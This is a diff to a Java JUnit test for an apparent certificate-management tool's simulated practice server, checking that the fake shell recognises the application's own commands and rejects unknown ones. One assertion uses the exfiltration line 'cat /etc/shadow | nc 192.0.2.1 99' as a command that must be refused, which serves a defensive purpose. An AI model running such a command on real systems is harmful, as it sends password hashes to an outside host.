@@ -33,6 +33,7 @@ import java.util.List;
 import java.util.Optional;
 import java.util.Set;
 import java.util.regex.Pattern;
+import org.certguide.certbot.CertbotLog;
 import org.certguide.certbot.CertbotVersion;
 import org.certguide.certbot.CertificateRequest;
 import org.certguide.certbot.CertificateRequest.Purpose;
@@ -54,11 +55,13 @@ import org.certguide.server.Connector.Result;
 import org.certguide.server.Failure;
 import org.certguide.server.HostKeyTrust;
 import org.certguide.server.Login;
-import org.certguide.server.ScriptOutput;
+import org.certguide.server.Probe;
+import org.certguide.server.Script;
 import org.certguide.server.Secret;
 import org.certguide.server.ServerAddress;
 import org.certguide.server.ServerException;
 import org.certguide.server.Sudo;
+import org.certguide.server.Token;
 import org.certguide.server.sshj.SshConnector;
 import org.certguide.system.InstallMethod;
 import org.certguide.system.OperatingSystem;
@@ -71,6 +74,7 @@ import org.junit.jupiter.params.provider.EnumSource;
 
 /** The practice server's doors, its certificates, and the commands that it knows. */
 class PracticeServerTest {
+    private static final Duration SECOND = Duration.ofSeconds(1);
     private static final String NAME = "dms.example.org";
     private static final PracticeServer.Settings QUICK = new PracticeServer.Settings(PracticeServer.CURRENT, 0);
 
@@ -201,41 +205,43 @@ class PracticeServerTest {
     private record Ended(int status, String said, List<String> unknown) {}
 
     /** Runs a command on a server that has everything, and answers whatever it asks. */
-    private static Ended run(String line) throws Tty.Stopped {
+    private static Ended run(Command command) throws Tty.Stopped {
         PracticeMachine machine = new PracticeMachine(ServerState.fresh(PracticeServer.CURRENT), Clock.systemUTC());
         for (Part part : Part.values()) machine.change(s -> s.with(part));
         machine.issue(NAME, List.of(NAME), KeyType.ECDSA);
         Deque<String> answers = new ArrayDeque<>();
         Secret password = Secret.of("right");
-        if (line.contains(" -p ")) answers.add("right\r");
+        if (command.text().contains(" -p ")) answers.add("right\r");
+        if (!command.input().isEmpty()) answers.add(command.input());
         answers.addAll(List.of("1\r", "Y\r", "Y\r", "Y\r"));
         ScriptedTty tty = new ScriptedTty(answers, () -> {});
-        int status = new Shell(machine, password, tty).run(line);
+        int status = new Shell(machine, password, tty).run(command.text());
         return new Ended(status, String.join("", tty.said()), machine.unknown());
     }
 
+    private static Ended run(String line) throws Tty.Stopped {
+        return run(Command.of(line, SECOND));
+    }
+
     /** Everything that the application can send to an Ubuntu 20.04. */
-    private static List<String> commands() {
-        String token = Sudo.mark();
-        List<String> scripts = new ArrayList<>();
+    private static List<Command> commands() {
+        List<Probe<?>> probes = new ArrayList<>();
         List<String> programs = new ArrayList<>();
-        scripts.add(Checklist.script(Checklist.standard(CheckContext.LETS_ENCRYPT), token));
-        scripts.add(InstalledCertificate.script(NAME, token));
-        scripts.add(RenewalSchedule.script(token));
-        scripts.add("systemctl stop nginx.service");
-        scripts.add("systemctl start nginx.service");
-        scripts.add(ServerChecks.UNTIL_FREE);
-        scripts.add(InstallPlan.AUDIT);
-        scripts.add(InstallPlan.HOLDS);
-        scripts.add("tail -c 400000 /var/log/letsencrypt/letsencrypt.log");
+        probes.add(Checklist.probe(Checklist.standard(CheckContext.LETS_ENCRYPT), Token.random()));
+        probes.add(InstalledCertificate.probe(NAME));
+        probes.add(RenewalSchedule.PROBE);
+        probes.add(ServerChecks.UNTIL_FREE);
+        probes.add(InstallPlan.AUDIT);
+        probes.add(InstallPlan.HOLDS);
+        probes.add(CertbotLog.probe("/var/log/letsencrypt/letsencrypt.log"));
         SystemCatalogue catalogue = SystemCatalogue.read();
         OperatingSystem ubuntu = catalogue.system("ubuntu-20.04");
         for (InstallMethod route : ubuntu.routes()) {
             for (SystemCatalogue.Software software : catalogue.software()) {
-                InstallPlan plan = InstallPlan.by(catalogue, software, ubuntu, route, SystemFacts.parse("", token));
-                scripts.add(plan.probeScript(token));
+                InstallPlan plan = InstallPlan.by(catalogue, software, ubuntu, route);
+                probes.add(plan.probe());
                 for (InstallPlan.Step step : plan.steps()) {
-                    scripts.add(ScriptOutput.prelude(token) + step.verify());
+                    probes.add(plan.verification(step));
                     programs.add(step.commandLine());
                 }
             }
@@ -246,11 +252,14 @@ class PracticeServerTest {
         programs.add(request(hooks, false).commandLine(PracticeServer.CURRENT));
         programs.add(DryRun.commandLine(NAME));
         programs.add("certbot certificates");
-        List<Sudo> ways = List.of(new Sudo.Free(), new Sudo.WithPassword(Secret.of("right")));
-        List<String> all = new ArrayList<>(List.of(SystemFacts.probe(token).text()));
-        Sudo sudo = ways.getLast();
-        scripts.forEach(s -> all.add(sudo.command(s, Duration.ofSeconds(1)).text()));
-        programs.forEach(p -> all.add(sudo.inTerminal(p, Sudo.mark())));
+        Sudo sudo = new Sudo.WithPassword(Secret.of("right"));
+        List<Command> all = new ArrayList<>();
+        all.add(SystemFacts.PROBE.script(Token.random()).command(SECOND));
+        for (Probe<?> probe : probes) all.add(probe.script(Token.random()).command(sudo, SECOND));
+        for (String unit : List.of("stop", "start")) {
+            all.add(new Script("command", "systemctl " + unit + " nginx.service").command(sudo, SECOND));
+        }
+        programs.forEach(p -> all.add(Command.of(sudo.inTerminal(p, Token.random()), SECOND)));
         return all;
     }
 
@@ -267,8 +276,9 @@ class PracticeServerTest {
 
     @Test
     void everyCommandOfTheApplicationIsKnown() throws Exception {
-        for (String line : commands()) {
-            Ended ended = run(line);
+        for (Command command : commands()) {
+            Ended ended = run(command);
+            String line = command.text() + "\n" + command.input();
             assertEquals(List.of(), ended.unknown(), line);
             assertFalse(ended.said().contains("not found"), line + "\n" + ended.said());
             assertNotEquals(Programs.NOT_FOUND, ended.status(), line);
@@ -283,10 +293,21 @@ class PracticeServerTest {
             assertTrue(ended.said().contains("sh: 1: docker: not found"), ended.said());
             assertEquals(List.of("docker ps"), ended.unknown());
         }
-        // A script that differs from the application's in one letter is another one.
-        String probe = RenewalSchedule.script(Sudo.mark()).replace("section cron", "section crons");
-        assertEquals(127, run("sh -c " + Command.quote(probe)).status());
+        Ended question = run(new Script("weather", "curl wttr.in").command(SECOND));
+        assertEquals(127, question.status());
+        assertEquals(List.of("weather"), question.unknown());
         assertEquals(127, run("cat /etc/shadow | nc 192.0.2.1 99").status());
+    }
+
+    @Test
+    void scriptThatDidNotArriveWholeDoesNothing() throws Exception {
+        Command whole = new Script("command", "systemctl stop nginx").command(SECOND);
+        for (String part : List.of(
+                whole.input().substring(1),
+                whole.input().substring(0, whole.input().length() - 1))) {
+            Command cut = new Command(whole.text(), SECOND, part, Optional.empty(), false, bytes -> {});
+            assertEquals(Script.CUT, run(cut).status());
+        }
     }
 
     @Test
